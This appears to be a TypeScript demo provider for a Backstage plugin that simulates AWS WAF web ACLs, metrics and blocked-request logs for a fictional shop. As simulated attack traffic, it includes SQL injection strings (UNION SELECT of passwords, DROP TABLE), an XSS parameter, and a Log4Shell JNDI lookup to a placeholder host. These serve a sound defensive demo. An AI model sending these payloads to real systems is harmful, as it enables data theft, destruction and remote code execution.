import { Entity } from '@backstage/catalog-model';
import { linksOf } from '@internal/backstage-plugin-aws-ops-common';
import {
  Clock,
} from '@internal/backstage-plugin-aws-ops-node';
import {
  cyclePosition,
  seededRandom,
  StoreService,
} from '@internal/backstage-plugin-aws-ops-demo';
import {
  WafLogLocation,
  WafLogQueryResult,
  WafMetricQuery,
  WafMetricSeries,
  WafProvider,
  WafWebAclDescription,
} from './types';

const SLOT_MS = 5 * 60_000;
const HOUR_MS = 3_600_000;

type Random = () => number;

const pick = <T>(random: Random, items: readonly T[]): T =>
  items[Math.floor(random() * items.length)];

/** A Poisson-distributed count with mean `mean` (Knuth; means here are small). */
function poisson(random: Random, mean: number): number {
  const limit = Math.exp(-mean);
  let count = 0;
  let product = random();
  while (product > limit) {
    count++;
    product *= random();
  }
  return count;
}

const SHOPPER_COUNTRIES = [
  'DE',
  'FR',
  'ES',
  'IE',
  'GB',
  'NL',
  'IT',
  'PT',
  'BE',
];
const BROWSER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
];

/** Fixed attacker addresses per scenario, so top client IPs tell a story. */
const STUFFING_IPS = [
  ['185.220.101.34', 'DE'],
  ['45.134.26.77', 'NL'],
  ['103.152.220.41', 'VN'],
  ['177.54.148.12', 'BR'],
  ['91.240.118.203', 'RU'],
  ['5.188.62.140', 'RU'],
] as const;
const SQLI_IPS = [
  ['193.32.162.99', 'RO'],
  ['138.199.60.14', 'US'],
] as const;
const BOT_IPS = [
  ['52.14.233.180', 'US'],
  ['34.91.55.201', 'NL'],
  ['159.89.47.12', 'SG'],
] as const;

interface DemoRequest {
  time: number;
  /** The store component whose host and path the request went to. */
  component?: string;
  action: 'ALLOW' | 'BLOCK';
  terminatingRuleId: string;
  terminatingRuleType: 'REGULAR' | 'RATE_BASED' | 'MANAGED_RULE_GROUP';
  ruleGroupId?: string;
  innerRuleId?: string;
  countedBy?: Array<{ group?: string; ruleId: string }>;
  clientIp: string;
  country: string;
  method: string;
  uri: string;
  args: string;
  host: string;
  userAgent: string;
  /** Credentials real requests carry; the plugin must never return them. */
  cookie?: string;
  authorization?: string;
}

interface DemoComponent {
  name: string;
  type: string;
  webAcl?: string;
  filter: { host?: string; pathPrefix: string };
  /** Mean allowed requests per 5 minutes in prod at the daily peak. */
  peakRate: number;
}

/** The demo web ACLs' rules: name, metric name (deliberately not the name), action or group. */
const DEMO_RULES: Array<{
  name: string;
  metricName: string;
  action?: 'Block' | 'Count';
  group?: string;
}> = [
  { name: 'RateLimitLogin', metricName: 'rate-limit-login', action: 'Block' },
  {
    name: 'RateLimitCheckout',
    metricName: 'rate-limit-checkout',
    action: 'Block',
  },
  {
    name: 'LoginVelocityWatch',
    metricName: 'login-velocity-watch',
    action: 'Count',
  },
  {
    name: 'AWS-AWSManagedRulesKnownBadInputsRuleSet',
    metricName: 'aws-known-bad-inputs',
    group: 'AWSManagedRulesKnownBadInputsRuleSet',
  },
  {
    name: 'AWS-AWSManagedRulesCommonRuleSet',
    metricName: 'aws-common-rule-set',
    group: 'AWSManagedRulesCommonRuleSet',
  },
  {
    name: 'AWS-AWSManagedRulesSQLiRuleSet',
    metricName: 'aws-sqli',
    group: 'AWSManagedRulesSQLiRuleSet',
  },
  {
    name: 'AWS-AWSManagedRulesBotControlRuleSet',
    metricName: 'aws-bot-control',
    group: 'AWSManagedRulesBotControlRuleSet',
  },
];

const METRIC_ACTION: Record<WafMetricQuery['metricName'], string> = {
  AllowedRequests: 'ALLOW',
  BlockedRequests: 'BLOCK',
  CountedRequests: 'COUNT',
  CaptchaRequests: 'CAPTCHA',
  ChallengeRequests: 'CHALLENGE',
};

/**
 * Simulates the store's web ACLs from the store's own catalog files: every
 * component gets shopper traffic under its host and path, and a few get
 * attacks (credential stuffing on identity-service's login, card testing on
 * checkout, SQL injection probes on search, scraping bots on catalog
 * browsing), plus scanner noise no component owns. Requests of a 5-minute
 * slot depend only on the seed and the slot. It answers the provider's three
 * calls as AWS would: GetWebACL (rules with metric names, one label rule per
 * component), GetMetricData sums by the real AWS/WAFV2 dimensions, and the
 * blocked-requests Logs Insights query (real WAF log JSON, newest first).
 */
export class DemoWafProvider implements WafProvider {
  readonly source = 'demo' as const;
  private readonly components: DemoComponent[];
  /** Requests per location and slot; a bounded memo, oldest dropped first. */
  private readonly slots = new Map<string, DemoRequest[]>();

  constructor(
    private readonly options: {
      services: StoreService[];
      /** The label name before the component name, e.g. `inbestment:component:`. */
      componentLabelPrefix: string;
      seed: string;
      clock: Clock;
    },
  ) {
    this.components = options.services.flatMap(service =>
      service.entities
        .filter(
          (e: Entity) =>
            e.kind === 'Component' &&
            (e.spec?.type === 'service' || e.spec?.type === 'website'),
        )
        .map(entity => {
          const waf = linksOf(entity).waf;
          const popularity = seededRandom(
            `${options.seed}:waf:${entity.metadata.name}`,
          )();
          return {
            name: entity.metadata.name,
            type: String(entity.spec?.type),
            webAcl: waf?.webAcl,
            filter: { host: waf?.host, pathPrefix: waf?.pathPrefix ?? '/' },
            peakRate: 2 + Math.floor(popularity * 5),
          };
        }),
    );
  }

  async getWebAcl(location: WafLogLocation): Promise<WafWebAclDescription> {
    const labelled = this.components.filter(c => c.webAcl === location.webAcl);
    return {
      Name: location.webAcl,
      ARN: this.webAclArn(location),
      LabelNamespace: `awswaf:${location.accountId}:webacl:${location.webAcl}:`,
      VisibilityConfig: { MetricName: `${location.webAcl}-metrics` },
      Rules: [
        // The component label rules come first, so every request is labelled.
        ...labelled.map((component, index) => ({
          Name: `component-${component.name}`,
          Priority: index,
          Action: { Count: {} },
          RuleLabels: [
            { Name: `${this.options.componentLabelPrefix}${component.name}` },
          ],
          VisibilityConfig: { MetricName: `component-${component.name}` },
        })),
        ...DEMO_RULES.map((rule, index) => ({
          Name: rule.name,
          Priority: 100 + index,
          ...(rule.group
            ? {
                OverrideAction: { None: {} },
                Statement: {
                  ManagedRuleGroupStatement: {
                    VendorName: 'AWS',
                    Name: rule.group,
                  },
                },
              }
            : { Action: { [rule.action!]: {} } }),
          VisibilityConfig: { MetricName: rule.metricName },
        })),
      ],
    };
  }

  async getMetricData(
    location: WafLogLocation,
    request: {
      queries: WafMetricQuery[];
      startMs: number;
      endMs: number;
      periodSeconds: number;
    },
  ): Promise<WafMetricSeries[]> {
    const periodMs = request.periodSeconds * 1000;
    const aclMetricName = `${location.webAcl}-metrics`;
    const labelNamespace = `awswaf:${location.accountId}:webacl:${
      location.webAcl
    }:${this.options.componentLabelPrefix.replace(/:$/, '')}`;
    const byMetricName = new Map(DEMO_RULES.map(r => [r.metricName, r.name]));
    const sums = request.queries.map(() => new Map<number, number>());
    for (const req of this.requests(location, request.startMs, request.endMs)) {
      const period =
        request.startMs +
        Math.floor((req.time - request.startMs) / periodMs) * periodMs;
      const counted = (req.countedBy ?? []).map(c =>
        c.group ? `AWS-AWS${c.group.split('#AWS')[1]}` : c.ruleId,
      );
      request.queries.forEach((query, index) => {
        const d = query.dimensions;
        if (d.WebACL !== aclMetricName) return;
        if (
          (d.Region ?? undefined) !==
          (location.scope === 'REGIONAL' ? location.region : undefined)
        )
          return;
        const action = METRIC_ACTION[query.metricName];
        let match: boolean;
        if (d.LabelNamespace !== undefined) {
          match =
            d.LabelNamespace === labelNamespace &&
            d.Label === req.component &&
            (action === 'COUNT' ? counted.length > 0 : req.action === action);
        } else if (d.Rule === 'ALL') {
          match =
            action === 'COUNT' ? counted.length > 0 : req.action === action;
        } else {
          const rule = byMetricName.get(d.Rule);
          match =
            action === 'COUNT'
              ? !!rule && counted.includes(rule)
              : req.action === action && req.terminatingRuleId === rule;
        }
        if (match) sums[index].set(period, (sums[index].get(period) ?? 0) + 1);
      });
    }
    return request.queries.map((query, index) => {
      const points = [...sums[index]].sort((a, b) => a[0] - b[0]);
      return {
        id: query.id,
        timestamps: points.map(p => p[0]),
        values: points.map(p => p[1]),
      };
    });
  }

  async queryLogs(
    location: WafLogLocation,
    request: {
      queryString: string;
      startMs: number;
      endMs: number;
      limit: number;
    },
  ): Promise<WafLogQueryResult> {
    // Runs the service's one query: blocked requests, newest first, `limit` rows.
    const lines: Array<{ time: number; line: string }> = [];
    let scanned = 0;
    let bytes = 0;
    for (const slot of this.slotStarts(request.startMs, request.endMs)) {
      const slotLines = this.slotLines(location, slot);
      for (const { time, line, action } of slotLines) {
        if (time < request.startMs || time >= request.endMs) continue;
        scanned++;
        bytes += line.length;
        if (action !== 'ALLOW') lines.push({ time, line });
      }
    }
    lines.sort((a, b) => b.time - a.time);
    return {
      status: 'Complete',
      rows: lines.slice(0, request.limit).map(({ time, line }) => ({
        '@timestamp': new Date(time)
          .toISOString()
          .replace('T', ' ')
          .replace('Z', ''),
        '@message': line,
      })),
      statistics: {
        recordsMatched: lines.length,
        recordsScanned: scanned,
        bytesScanned: bytes,
      },
    };
  }

  private *slotStarts(startMs: number, endMs: number) {
    const end = Math.min(endMs, this.options.clock());
    for (
      let slot = Math.floor(startMs / SLOT_MS) * SLOT_MS;
      slot < end;
      slot += SLOT_MS
    ) {
      yield slot;
    }
  }

  /** The simulated requests of `[startMs, endMs)`, up to the clock. */
  private *requests(location: WafLogLocation, startMs: number, endMs: number) {
    const end = Math.min(endMs, this.options.clock());
    for (const slot of this.slotStarts(startMs, endMs)) {
      for (const request of this.slotRequests(location, slot)) {
        if (request.time >= startMs && request.time < end) yield request;
      }
    }
  }

  private webAclArn(location: WafLogLocation) {
    return `arn:aws:wafv2:${location.region}:${location.accountId}:${
      location.scope === 'CLOUDFRONT' ? 'global' : 'regional'
    }/webacl/${location.webAcl}/4f1c2a6e-7b3d-4e0a-9c1f-${location.accountId}`;
  }

  /** The log lines of one slot: real WAF log JSON (and now and then a truncated line). */
  private slotLines(location: WafLogLocation, slot: number) {
    const random = seededRandom(
      `${this.options.seed}:waf:lines:${location.accountId}:${location.region}:${location.webAcl}:${slot}`,
    );
    const lines = this.slotRequests(location, slot).map(request => ({
      time: request.time,
      action: request.action,
      line: JSON.stringify(this.logRecord(location, request, random)),
    }));
    if (random() < 1 / 24) {
      lines.push({
        time: slot + 1,
        action: 'BLOCK',
        line: `{"timestamp":${slot + 1},"formatVersion":1,"webaclId":"trunc`,
      });
    }
    return lines;
  }

  private slotRequests(location: WafLogLocation, slot: number): DemoRequest[] {
    const key = `${location.environment}:${location.accountId}:${location.region}:${location.webAcl}:${slot}`;
    let requests = this.slots.get(key);
    if (!requests) {
      requests = this.simulateSlot(location, slot);
      if (this.slots.size >= 5000) {
        this.slots.delete(this.slots.keys().next().value!);
      }
      this.slots.set(key, requests);
    }
    return requests;
  }

  /** The requests of one 5-minute slot of one web ACL location. */
  private simulateSlot(location: WafLogLocation, slot: number): DemoRequest[] {
    const { seed } = this.options;
    const random = seededRandom(
      `${seed}:waf:${location.accountId}:${location.region}:${location.webAcl}:${slot}`,
    );
    // Staging sees a tenth of prod's traffic; traffic peaks in the evening.
    const envFactor = location.environment === 'prod' ? 1 : 0.1;
    const daily = cyclePosition(slot, 24 * HOUR_MS, `${seed}:waf:daily`);
    const dayFactor = 0.35 + 0.65 * Math.sin(Math.PI * daily) ** 2;
    const requests: DemoRequest[] = [];
    const at = () => slot + Math.floor(random() * SLOT_MS);

    for (const component of this.components) {
      if (component.webAcl !== location.webAcl) continue;
      const before = requests.length;
      const base = this.basePath(component);
      const allowed = poisson(
        random,
        component.peakRate * dayFactor * envFactor,
      );
      for (let i = 0; i < allowed; i++) {
        const botLike = component.type === 'website' && random() < 0.08;
        requests.push({
          time: at(),
          action: 'ALLOW',
          terminatingRuleId: 'Default_Action',
          terminatingRuleType: 'REGULAR',
          countedBy: botLike
            ? [
                {
                  group: 'AWS#AWSManagedRulesBotControlRuleSet',
                  ruleId: 'SignalNonBrowserUserAgent',
                },
              ]
            : undefined,
          clientIp: this.shopperIp(random),
          country: pick(random, SHOPPER_COUNTRIES),
          method:
            component.type === 'service' && random() < 0.3 ? 'POST' : 'GET',
          uri: `${base}${pick(random, ['', '/', '/items', '/v1', '/health'])}`,
          args: '',
          host: component.filter.host ?? 'www.inbestment.shop',
          userAgent: botLike ? 'curl/8.5.0' : pick(random, BROWSER_AGENTS),
          cookie: `session=${Math.floor(random() * 1e12).toString(
            36,
          )}; cart=${Math.floor(random() * 1e6)}`,
          authorization:
            component.type === 'service'
              ? `Bearer eyJhbGciOiJSUzI1NiJ9.${Math.floor(
                  random() * 1e12,
                ).toString(36)}`
              : undefined,
        });
      }
      // Background noise: the common rule set catches an odd request anywhere.
      if (random() < 0.06 * envFactor) {
        requests.push({
          ...this.attack(random, at(), component, base),
          terminatingRuleId: 'AWS-AWSManagedRulesCommonRuleSet',
          ruleGroupId: 'AWS#AWSManagedRulesCommonRuleSet',
          innerRuleId: pick(random, [
            'CrossSiteScripting_QUERYARGUMENTS',
            'SizeRestrictions_BODY',
            'GenericLFI_QUERYARGUMENTS',
          ]),
          args: 'redirect=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
        });
      }
      if (location.environment === 'prod') {
        requests.push(...this.scenario(random, slot, component, base, at));
      }
      for (let i = before; i < requests.length; i++) {
        requests[i].component = component.name;
      }
    }
    // Scanners probing paths no component owns.
    for (let i = poisson(random, 1.2 * envFactor); i > 0; i--) {
      const [ip, country] = pick(random, [
        ['198.51.100.23', 'CN'],
        ['203.0.113.77', 'KR'],
      ] as const);
      requests.push({
        time: at(),
        action: 'BLOCK',
        terminatingRuleId: 'AWS-AWSManagedRulesKnownBadInputsRuleSet',
        terminatingRuleType: 'MANAGED_RULE_GROUP',
        ruleGroupId: 'AWS#AWSManagedRulesKnownBadInputsRuleSet',
        innerRuleId: 'Log4JRCE_HEADER',
        clientIp: ip,
        country,
        method: 'GET',
        uri: pick(random, ['/wp-login.php', '/.env', '/actuator/env', '/']),
        args: '',
        host:
          location.scope === 'CLOUDFRONT'
            ? 'www.inbestment.shop'
            : 'api.inbestment.shop',
        userAgent: '${jndi:ldap://203.0.113.77/a}',
      });
    }
    return requests.sort((a, b) => a.time - b.time);
  }

  private scenario(
    random: Random,
    slot: number,
    component: DemoComponent,
    base: string,
    at: () => number,
  ): DemoRequest[] {
    const { seed } = this.options;
    const requests: DemoRequest[] = [];
    if (component.name === 'identity-service') {
      // A daily 90-minute credential stuffing campaign on login, stopped by a rate rule.
      const phase = cyclePosition(slot, 24 * HOUR_MS, `${seed}:waf:stuffing`);
      if (phase < 1.5 / 24) {
        for (let i = poisson(random, 55); i > 0; i--) {
          const [ip, country] = pick(random, STUFFING_IPS);
          requests.push({
            time: at(),
            action: random() < 0.9 ? 'BLOCK' : 'ALLOW',
            terminatingRuleId: 'RateLimitLogin',
            terminatingRuleType: 'RATE_BASED',
            clientIp: ip,
            country,
            method: 'POST',
            uri: `${base}/login`,
            args: '',
            host: component.filter.host ?? 'api.inbestment.shop',
            userAgent: 'python-requests/2.32.3',
          });
        }
        for (const request of requests) {
          if (request.action === 'ALLOW') {
            request.terminatingRuleId = 'Default_Action';
            request.terminatingRuleType = 'REGULAR';
            request.countedBy = [{ ruleId: 'LoginVelocityWatch' }];
          }
        }
      }
    }
    if (component.name === 'checkout-service') {
      // Card testing in every slot: scripted order attempts throttled by a
      // rate rule, so the latest-15-minutes sample always shows an attack.
      for (let i = 1 + poisson(random, 1); i > 0; i--) {
        const [ip, country] = pick(random, BOT_IPS);
        requests.push({
          ...this.attack(random, at(), component, base),
          clientIp: ip,
          country,
          terminatingRuleId: 'RateLimitCheckout',
          terminatingRuleType: 'RATE_BASED',
          method: 'POST',
          uri: `${base}/orders`,
          userAgent: 'okhttp/4.12.0',
        });
      }
    }
    if (component.name === 'search-service' && random() < 0.5) {
      // SQL injection probes in the search query.
      for (let i = poisson(random, 2); i > 0; i--) {
        const [ip, country] = pick(random, SQLI_IPS);
        requests.push({
          ...this.attack(random, at(), component, base),
          clientIp: ip,
          country,
          terminatingRuleId: 'AWS-AWSManagedRulesSQLiRuleSet',
          ruleGroupId: 'AWS#AWSManagedRulesSQLiRuleSet',
          innerRuleId: 'SQLi_QUERYARGUMENTS',
          uri: `${base}/products`,
          args: pick(random, [
            'q=shoes%27%20OR%20%271%27%3D%271',
            'q=1%20UNION%20SELECT%20username,password%20FROM%20users--',
            'q=%27%3B%20DROP%20TABLE%20orders%3B--',
          ]),
          userAgent: 'sqlmap/1.8.11#stable (https://sqlmap.org)',
        });
      }
    }
    if (component.name === 'catalog-browse-mfe') {
      // Scrapers walking the catalogue, stopped by Bot Control.
      for (let i = poisson(random, 4); i > 0; i--) {
        const [ip, country] = pick(random, BOT_IPS);
        requests.push({
          ...this.attack(random, at(), component, base),
          clientIp: ip,
          country,
          terminatingRuleId: 'AWS-AWSManagedRulesBotControlRuleSet',
          ruleGroupId: 'AWS#AWSManagedRulesBotControlRuleSet',
          innerRuleId: 'CategoryHttpLibrary',
          uri: `${base}/page/${1 + Math.floor(random() * 400)}`,
          userAgent: pick(random, ['Scrapy/2.11.2', 'Go-http-client/1.1']),
        });
      }
    }
    return requests;
  }

  private attack(
    random: Random,
    time: number,
    component: DemoComponent,
    base: string,
  ): DemoRequest {
    return {
      time,
      action: 'BLOCK',
      terminatingRuleId: '',
      terminatingRuleType: 'MANAGED_RULE_GROUP',
      clientIp: this.shopperIp(random),
      country: pick(random, ['US', 'CN', 'RU', 'BR', 'IN']),
      method: 'GET',
      uri: base,
      args: '',
      host: component.filter.host ?? 'www.inbestment.shop',
      userAgent: 'Mozilla/5.0',
    };
  }

  /** A path under the component's prefix, without a trailing slash. */
  private basePath(component: DemoComponent): string {
    return component.filter.pathPrefix.replace(/\/$/, '');
  }

  private shopperIp(random: Random): string {
    const octet = () => 1 + Math.floor(random() * 254);
    return `${pick(
      random,
      [81, 84, 88, 90, 176, 188, 212],
    )}.${octet()}.${octet()}.${octet()}`;
  }

  /** A record in the format AWS WAF writes to CloudWatch Logs. */
  private logRecord(
    location: WafLogLocation,
    request: DemoRequest,
    random: Random,
  ) {
    const headers = [
      { name: 'Host', value: request.host },
      { name: 'User-Agent', value: request.userAgent },
      { name: 'Accept', value: 'application/json, text/html;q=0.9' },
      { name: 'Accept-Language', value: 'en-GB,en;q=0.8' },
      ...(request.cookie ? [{ name: 'Cookie', value: request.cookie }] : []),
      ...(request.authorization
        ? [{ name: 'Authorization', value: request.authorization }]
        : []),
    ];
    const requestId = Array.from({ length: 4 }, () =>
      Math.floor(random() * 0x10000)
        .toString(16)
        .padStart(4, '0'),
    ).join('');
    return {
      timestamp: request.time,
      formatVersion: 1,
      webaclId: this.webAclArn(location),
      terminatingRuleId: request.terminatingRuleId,
      terminatingRuleType: request.terminatingRuleType,
      action: request.action,
      terminatingRuleMatchDetails: [],
      httpSourceName: location.scope === 'CLOUDFRONT' ? 'CF' : 'ALB',
      httpSourceId:
        location.scope === 'CLOUDFRONT'
          ? 'E2QXDPUNY1EXAMPLE'
          : `${location.accountId}-app/inbestment-alb/50dc6c495c0c9188`,
      ruleGroupList: request.ruleGroupId
        ? [
            {
              ruleGroupId: request.ruleGroupId,
              terminatingRule: {
                ruleId: request.innerRuleId,
                action: request.action,
                ruleMatchDetails: null,
              },
              nonTerminatingMatchingRules: [],
              excludedRules: null,
            },
          ]
        : (request.countedBy ?? [])
            .filter(c => c.group)
            .map(c => ({
              ruleGroupId: c.group,
              terminatingRule: null,
              nonTerminatingMatchingRules: [
                { ruleId: c.ruleId, action: 'COUNT', ruleMatchDetails: [] },
              ],
              excludedRules: null,
            })),
      rateBasedRuleList:
        request.terminatingRuleType === 'RATE_BASED'
          ? [
              {
                rateBasedRuleId: `${location.webAcl}-RateLimitLogin`,
                rateBasedRuleName: 'RateLimitLogin',
                limitKey: 'IP',
                maxRateAllowed: 100,
                evaluationWindowSec: '300',
              },
            ]
          : [],
      nonTerminatingMatchingRules: (request.countedBy ?? [])
        .filter(c => !c.group)
        .map(c => ({
          ruleId: c.ruleId,
          action: 'COUNT',
          ruleMatchDetails: [],
        })),
      requestHeadersInserted: null,
      responseCodeSent: null,
      httpRequest: {
        clientIp: request.clientIp,
        country: request.country,
        headers,
        uri: request.uri,
        args: request.args,
        httpVersion: 'HTTP/2.0',
        httpMethod: request.method,
        requestId,
        fragment: '',
        scheme: 'https',
        host: request.host,
      },
      labels: request.component
        ? [
            {
              name: `awswaf:${location.accountId}:webacl:${location.webAcl}:${this.options.componentLabelPrefix}${request.component}`,
            },
          ]
        : [],
    };
  }
}
